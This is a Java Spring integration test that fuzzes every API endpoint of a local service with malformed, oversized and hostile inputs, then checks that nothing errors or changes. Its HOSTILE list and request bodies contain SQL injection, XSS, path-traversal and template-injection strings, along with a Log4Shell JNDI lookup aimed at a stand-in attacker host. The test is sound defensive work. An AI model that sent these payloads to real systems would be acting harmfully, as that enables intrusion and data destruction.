package io.controlplane.platform;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.controlplane.IntegrationTest;
import io.controlplane.JourneyDriver;
import io.controlplane.incident.IncidentService;
import java.lang.reflect.RecordComponent;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DatabaseMetaData;
import java.sql.ResultSet;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.sql.DataSource;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.core.DefaultParameterNameDiscoverer;
import org.springframework.core.MethodParameter;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.web.bind.annotation.RequestBody;
import org.springframework.web.bind.annotation.RequestParam;
import org.springframework.web.method.HandlerMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

/**
 * A generated corpus of malformed, oversized and hostile requests against every {@code /api} endpoint Spring MVC maps
 * (so endpoints added later are covered without a change here), each sent as a user the endpoint admits: hostile path
 * variables (unknown ids, SQL and script fragments, invalid stage names, overflowing numbers), hostile values for
 * every request parameter, and for writes wrong types per body field, unknown fields, deep JSON, huge strings,
 * oversized and non-JSON bodies. Asserts: no 5xx, every refusal a problem-details body, and no row added or removed
 * in the project's tables or the engine's runtime and history tables.
 */
@IntegrationTest
class BadInputCorpusTest {
    private static final Pattern PATH_VARIABLE = Pattern.compile("\\{([^}:]+)(:[^}]*)?}");
    private static final String UNKNOWN = "no-such-" + UUID.randomUUID();
    /** Hostile values for path variables and request parameters. */
    private static final List<String> HOSTILE = List.of(
            UNKNOWN,
            " ",
            "' OR '1'='1' --",
            "'; DROP TABLE missions; --",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "#{7*7}",
            "../../etc/passwd",
            "\u0000",
            "NOT_A_STAGE",
            "Launch",
            "-1",
            "0",
            "99999999999999999999",
            "NaN",
            "1e400",
            "2024-13-45T25:61:00Z",
            "true",
            "[]",
            "{\"$gt\": \"\"}",
            "\uFF21\uFF22\uD83D\uDE00",
            "x".repeat(3000));
    /** Engine tables that change on their own (metrics), not because of a request. */
    private static final List<String> VOLATILE =
            List.of("ACT_RU_METER_LOG", "ACT_RU_TASK_METER_LOG", "ACT_GE_PROPERTY");

    @LocalServerPort
    int port;

    @Autowired
    @Qualifier("requestMappingHandlerMapping")
    RequestMappingHandlerMapping mappings;

    @Autowired
    JourneyDriver drive;

    @Autowired
    IncidentService incidents;

    @Autowired
    DataSource dataSource;

    private final HttpClient client = HttpClient.newHttpClient();
    private final Map<Integer, Integer> histogram = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private int sent;

    @Test
    void hostileRequestsAreRefusedWithProblemDetailsAndChangeNothing() throws Exception {
        // real ids, so a hostile body meets an existing resource and a hostile id an otherwise valid request
        String mission = drive.start("mo", JourneyDriver.brief("Corpus target"));
        drive.confirmIntent(mission);
        String incident = incidents.open("oauth_drift", mission, "PREPARE", "low", "Corpus target incident", null);
        String backlogItem = String.valueOf(createBacklogItem());
        Map<String, String> real =
                Map.of("/api/missions/", mission, "/api/incidents/", incident, "/api/backlog/", backlogItem);
        Map<String, String> valid = Map.of(
                "POST /api/missions/{id}/scope-drift",
                        "{\"toolkit\":\"hubspot\",\"scopes\":[\"crm.objects.contacts.write\"]}",
                "PATCH /api/backlog/{id:\\d+}", "{\"status\":\"done\"}");

        Map<String, Long> before = rowCounts();
        int endpoints = 0;
        for (Map.Entry<RequestMappingInfo, HandlerMethod> e :
                mappings.getHandlerMethods().entrySet()) {
            for (String pattern : e.getKey().getPathPatternsCondition().getPatternValues()) {
                if (!pattern.startsWith("/api/")) {
                    continue;
                }
                for (var method : e.getKey().getMethodsCondition().getMethods()) {
                    endpoints++;
                    String key = method.name() + " " + pattern;
                    String user = userFor(key);
                    corpus(method.name(), pattern, user, e.getValue(), real, valid.get(key));
                }
            }
        }
        Map<String, Long> after = rowCounts();

        System.out.printf(
                "Bad-input corpus: %d endpoints, %d requests sent, %d 5xx, statuses %s%n",
                endpoints,
                sent,
                histogram.entrySet().stream()
                        .filter(s -> s.getKey() >= 500)
                        .mapToInt(Map.Entry::getValue)
                        .sum(),
                histogram);
        assertThat(failures).isEmpty();
        assertThat(histogram.keySet()).allMatch(s -> s < 500);
        assertThat(after).as("row counts of project and engine tables").isEqualTo(before);
        assertThat(sent).isGreaterThan(500);
    }

    private void corpus(
            String method,
            String pattern,
            String user,
            HandlerMethod handler,
            Map<String, String> real,
            String validBody)
            throws Exception {
        List<String> variables = new ArrayList<>();
        Matcher m = PATH_VARIABLE.matcher(pattern);
        while (m.find()) {
            variables.add(m.group(1));
        }
        boolean writes = !method.equals("GET");
        String baseBody = writes ? (validBody != null ? validBody : "{}") : null;

        // hostile path variables, one at a time, the others real
        for (String variable : variables) {
            for (String value : HOSTILE) {
                send(
                        method,
                        path(pattern, real, variable, value),
                        user,
                        baseBody == null ? null : "application/json",
                        baseBody);
            }
        }
        String path = path(pattern, real, null, null);
        // hostile request parameters, one at a time, and an unknown one
        for (MethodParameter p : handler.getMethodParameters()) {
            p.initParameterNameDiscovery(new DefaultParameterNameDiscoverer());
            RequestParam rp = p.getParameterAnnotation(RequestParam.class);
            if (rp == null) {
                continue;
            }
            String name = !rp.name().isEmpty() ? rp.name() : !rp.value().isEmpty() ? rp.value() : p.getParameterName();
            for (String value : HOSTILE) {
                send(
                        method,
                        path + "?" + name + "=" + encode(value),
                        user,
                        baseBody == null ? null : "application/json",
                        baseBody);
            }
            send(method, path + "?" + name + "=1&" + name + "=2", user, null, baseBody);
        }
        if (!writes) {
            send(method, path + "?unknownParameter=" + encode("'; DROP TABLE missions; --"), user, null, null);
            return;
        }
        // bodies
        List<String> bodies = new ArrayList<>(List.of(
                "",
                "null",
                "[]",
                "{}",
                "\"text\"",
                "42",
                "{\"title\": ",
                "{\"unknownField\": 1}",
                "{\"a\":1,}",
                "\uFEFF{}",
                deep("[", "]", 5000),
                deep("{\"a\":", "}", 3000),
                "{\"title\":\"" + "x".repeat(200_000) + "\"}"));
        Class<?> bodyType = null;
        for (MethodParameter p : handler.getMethodParameters()) {
            if (p.hasParameterAnnotation(RequestBody.class)) {
                bodyType = p.getParameterType();
            }
        }
        if (bodyType != null && bodyType.isRecord()) {
            StringBuilder allSql = new StringBuilder("{");
            StringBuilder allScript = new StringBuilder("{");
            for (RecordComponent c : bodyType.getRecordComponents()) {
                for (String wrong : wrongTypes(c.getType())) {
                    bodies.add("{\"" + c.getName() + "\":" + wrong + "}");
                }
                bodies.add("{\"" + c.getName() + "\":\"" + "y".repeat(100_000) + "\"}");
                bodies.add("{\"" + c.getName() + "\":null}");
                allSql.append(allSql.length() > 1 ? "," : "")
                        .append('"')
                        .append(c.getName())
                        .append("\":\"' OR 1=1; DROP TABLE missions; --\"");
                allScript
                        .append(allScript.length() > 1 ? "," : "")
                        .append('"')
                        .append(c.getName())
                        .append("\":\"<script>alert(1)</script>\"");
            }
            bodies.add(allSql.append('}').toString());
            bodies.add(allScript.append('}').toString());
            bodies.add("{\"" + bodyType.getRecordComponents()[0].getName() + "\":1, \"injected\": {\"admin\": true}}");
        }
        // a handler without a body ignores one: aim its body variants at an unknown id, so a request that is accepted
        // regardless (acknowledging a real incident) cannot count as hostile input getting through
        if (bodyType == null && !variables.isEmpty()) {
            path = PATH_VARIABLE.matcher(pattern).replaceAll(Matcher.quoteReplacement(UNKNOWN));
        }
        for (String body : bodies) {
            send(method, path, user, "application/json", body);
        }
        send(method, path, user, "text/plain", "title=x");
        send(method, path, user, "application/xml", "<mission><title>x</title></mission>");
        send(method, path, user, "application/x-www-form-urlencoded", "title=%27%3B+DROP+TABLE+missions");
        // over the 1 MiB limit, refused before anything reads it
        send(method, path, user, "application/json", "{\"title\":\"" + "z".repeat((1 << 20) + 10) + "\"}");
    }

    private static List<String> wrongTypes(Class<?> type) {
        if (type == String.class) {
            return List.of("123", "{\"nested\":true}", "[\"a\",\"b\"]", "false", "\"nul\\u0000byte\"");
        }
        if (Number.class.isAssignableFrom(type) || type.isPrimitive() && type != boolean.class) {
            return List.of("\"not-a-number\"", "1e400", "99999999999999999999999", "{}", "true");
        }
        if (type == boolean.class || type == Boolean.class) {
            return List.of("\"maybe\"", "2", "[]");
        }
        if (Collection.class.isAssignableFrom(type)) {
            return List.of(
                    "\"not-a-list\"",
                    "{\"a\":1}",
                    "[[[[1]]]]",
                    "[null]",
                    "[\"a\\u0000b\"]",
                    "[" + "1,".repeat(10_000) + "1]");
        }
        if (Map.class.isAssignableFrom(type)) {
            return List.of("[1,2]", "\"not-an-object\"", "{\"" + "k".repeat(50_000) + "\":1}");
        }
        return List.of("\"not-an-object\"", "[1]", "7", "{\"unknownField\":1}");
    }

    private static String deep(String open, String close, int depth) {
        return open.repeat(depth) + "1" + close.repeat(depth);
    }

    private static String path(String pattern, Map<String, String> real, String hostileVariable, String hostileValue) {
        Matcher m = PATH_VARIABLE.matcher(pattern);
        StringBuilder out = new StringBuilder();
        while (m.find()) {
            String name = m.group(1);
            String value;
            if (name.equals(hostileVariable)) {
                value = encode(hostileValue);
            } else if (name.equals("stage")) {
                value = "DEFINE";
            } else {
                String prefix = pattern.substring(0, m.start());
                value = real.entrySet().stream()
                        .filter(r -> prefix.equals(r.getKey()))
                        .map(Map.Entry::getValue)
                        .findFirst()
                        .orElse("1");
            }
            m.appendReplacement(out, Matcher.quoteReplacement(value));
        }
        m.appendTail(out);
        return out.toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** A user in a group the endpoint admits (the mission owner first, for their own mission), or none. */
    private static String userFor(String key) {
        ApiAccess.Rule rule = ApiAccess.RULES.stream()
                .filter(r -> r.key().equals(key))
                .findFirst()
                .orElseThrow(() -> new AssertionError(key + " has no rule in ApiAccess"));
        if (rule.open()) {
            return null;
        }
        return ApiAccessMatrixTest.USER_OF_GROUP.entrySet().stream()
                .filter(g -> rule.groups().contains(g.getKey()))
                .map(Map.Entry::getValue)
                .findFirst()
                .orElseThrow();
    }

    /**
     * The legacy migration takes an optional selection (none: every running legacy mission) and a dry-run flag, so an
     * empty or ignored input is a valid request; with no legacy mission running it answers 200 without starting a
     * batch (no {@code batchId}). That is not an accepted hostile write: the row counts prove nothing changed.
     */
    private static boolean nothingToDo(String path, HttpResponse<String> r) {
        return path.startsWith("/api/admin/legacy/migrations")
                && r.statusCode() == 200
                && !r.body().contains("\"batchId\"");
    }

    private void send(String method, String path, String user, String contentType, String body) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .method(
                        method,
                        body == null
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        if (contentType != null) {
            b.header("Content-Type", contentType);
        }
        if (user != null) {
            b.header(
                    "Authorization",
                    "Basic " + Base64.getEncoder().encodeToString((user + ":demo").getBytes(StandardCharsets.UTF_8)));
        }
        HttpResponse<String> r = client.send(b.build(), HttpResponse.BodyHandlers.ofString());
        sent++;
        histogram.merge(r.statusCode(), 1, Integer::sum);
        String what = method + " " + abbreviate(path) + " as " + user + " body " + abbreviate(String.valueOf(body));
        if (!method.equals("GET") && r.statusCode() < 300 && !nothingToDo(path, r)) {
            failures.add(what + ": a hostile write was accepted with " + r.statusCode());
        } else if (r.statusCode() >= 500) {
            failures.add(what + ": " + r.statusCode() + " " + abbreviate(r.body()));
        } else if (r.statusCode() >= 300
                && !r.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
            failures.add(what + ": " + r.statusCode() + " without problem details ("
                    + r.headers().firstValue("Content-Type").orElse("no content type") + ") " + abbreviate(r.body()));
        }
    }

    private static String abbreviate(String s) {
        return s.length() > 120 ? s.substring(0, 120) + "…(" + s.length() + ")" : s;
    }

    private long createBacklogItem() throws Exception {
        String body = "{\"title\":\"Corpus target item\",\"stage\":\"define\",\"category\":\"intake_prompts\","
                + "\"impact\":2,\"effort\":1,\"ownerRole\":\"mission-owner\"}";
        HttpResponse<String> r = client.send(
                HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/backlog"))
                        .header("Content-Type", "application/json")
                        .header(
                                "Authorization",
                                "Basic "
                                        + Base64.getEncoder()
                                                .encodeToString("mo:demo".getBytes(StandardCharsets.UTF_8)))
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(r.statusCode()).isEqualTo(201);
        return new ObjectMapper().readTree(r.body()).path("id").asLong();
    }

    /** Rows per table of the service's schema: the project's tables and the engine's ACT_* tables. */
    private Map<String, Long> rowCounts() throws Exception {
        Map<String, Long> counts = new LinkedHashMap<>();
        JdbcTemplate jdbc = new JdbcTemplate(dataSource);
        List<String> tables = new ArrayList<>();
        try (Connection c = dataSource.getConnection()) {
            DatabaseMetaData meta = c.getMetaData();
            try (ResultSet rs = meta.getTables(null, c.getSchema(), "%", new String[] {"TABLE"})) {
                while (rs.next()) {
                    tables.add(rs.getString("TABLE_NAME"));
                }
            }
        }
        for (String table : tables) {
            if (VOLATILE.contains(table.toUpperCase(Locale.ROOT))) {
                continue;
            }
            counts.put(table, jdbc.queryForObject("SELECT COUNT(*) FROM \"" + table + "\"", Long.class));
        }
        assertThat(counts.keySet().stream().map(t -> t.toLowerCase(Locale.ROOT)))
                .contains("missions", "backlog_items", "act_ru_execution", "act_hi_procinst");
        return counts;
    }
}
